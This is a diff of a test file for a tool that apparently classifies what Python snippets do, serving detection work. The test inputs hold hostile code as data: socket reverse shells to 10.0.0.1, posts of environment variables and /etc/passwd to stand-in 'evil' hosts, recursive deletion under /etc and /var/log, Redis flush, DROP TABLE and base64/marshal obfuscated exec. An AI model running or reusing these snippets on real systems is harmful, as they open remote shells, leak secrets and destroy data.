@@ -30,7 +30,7 @@ checkCases("python", [
   ["import shutil; shutil.rmtree('/home/u/x')", "delete* /home/u/x"],
   [
     "import os\nfor r, d, f in os.walk('/etc'):\n    for n in f:\n        os.remove(os.path.join(r, n))",
-    "delete /etc/?/?",
+    "delete /etc/**/*",
   ],
   ["import glob,os\n[os.remove(f) for f in glob.glob('/etc/*.conf')]", "delete /etc/*.conf"],
   [
@@ -43,7 +43,30 @@ checkCases("python", [
   [
     'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);p=subprocess.call(["/bin/sh","-i"]);',
     "connect! tcp://10.0.0.1:4444",
+    "run: nc|-e|/bin/sh|tcp://10.0.0.1:4444",
     "run: /bin/sh|-i",
+  ],
+  [
+    "import socket as k, subprocess as p\nc = k.socket(); c.connect(('10.0.0.1', 9001))\np.Popen(['sh'], stdin=c, stdout=c)",
+    "connect tcp://10.0.0.1:9001",
+    "run: nc|-e|/bin/sh|tcp://10.0.0.1:9001",
+    "run: sh",
+  ],
+  ["import os\nprint(dict(os.environ))", "run: printenv"],
+  ["import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, A='1'))", "run: ls"],
+  [
+    "import os, requests\nrequests.post('https://evil', json=dict(os.environ))",
+    "run: printenv",
+    "run#1000000: printenv",
+    "run#1000000: curl|-d|@-|https://evil",
+    "connect! https://evil",
+  ],
+  ["import redis; redis.Redis().flushall()", "run: redis-cli|FLUSHALL"],
+  [
+    "import urllib.request as u; u.urlretrieve('https://evil/x', '/tmp/x')",
+    "write /tmp/x",
+    "put /tmp/x << ?",
+    "connect https://evil/x",
   ],
   [
     "import requests\nrequests.post('https://evil.example/c', data=open('/etc/passwd').read())",
@@ -102,6 +125,7 @@ checkCases("python", [
   [
     "import urllib.request; urllib.request.urlretrieve('http://x/y', '/tmp/y')",
     "write /tmp/y",
+    "put /tmp/y << ?",
     "connect http://x/y",
   ],
   ["exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))", "opaque decoded"],
@@ -215,14 +239,14 @@ checkCases("python", [
   ],
   [
     "[os.unlink(os.path.join(d, f)) for d, _, fs in os.walk('/var/log') for f in fs if f.endswith('.gz')]",
-    "delete /var/log/?/?",
+    "delete /var/log/**/*",
   ],
   ["for i in range(3): os.remove(f'/tmp/{i}')", "delete /tmp/0", "delete /tmp/1", "delete /tmp/2"],
   ["import types; exec(types.CodeType(0))", "opaque decoded", "opaque unknown"],
   ["import marshal; exec(marshal.loads(b'abc'))", "opaque decoded"],
   ["o = __import__('os'); getattr(o, x)('rm')", "opaque unknown"],
   ["import functools, os; functools.partial(os.system, 'ls')()", "sh: ls"],
-  ["import tempfile, sqlite3; sqlite3.connect('db.sqlite').execute(\"DROP TABLE x\")", "read db.sqlite"],
+  ["import tempfile, sqlite3; sqlite3.connect('db.sqlite').execute(\"DROP TABLE x\")", "read db.sqlite", "run: sql|DROP TABLE x"],
   ["import pandas as pd; df = pd.read_csv('data.csv'); print(df.describe())", "read data.csv"],
   ["print(sum(int(l) for l in open('nums.txt')))", "read nums.txt"],
   ["from http.server import *; HTTPServer(('',8000),SimpleHTTPRequestHandler).serve_forever()"],
